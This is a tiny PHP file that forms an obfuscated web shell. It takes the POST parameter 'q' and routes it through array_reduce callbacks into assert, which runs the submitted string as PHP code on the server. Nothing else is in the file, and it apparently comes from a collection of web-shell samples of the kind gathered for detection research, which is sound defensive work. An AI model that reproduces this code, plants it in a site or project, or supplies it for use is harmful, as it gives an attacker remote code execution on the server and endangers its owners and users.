<?php
$c = array_reduce(array($_POST['q']), function ($carry, $item) { return $item; });
array_reduce(array(1), 'assert', $c);
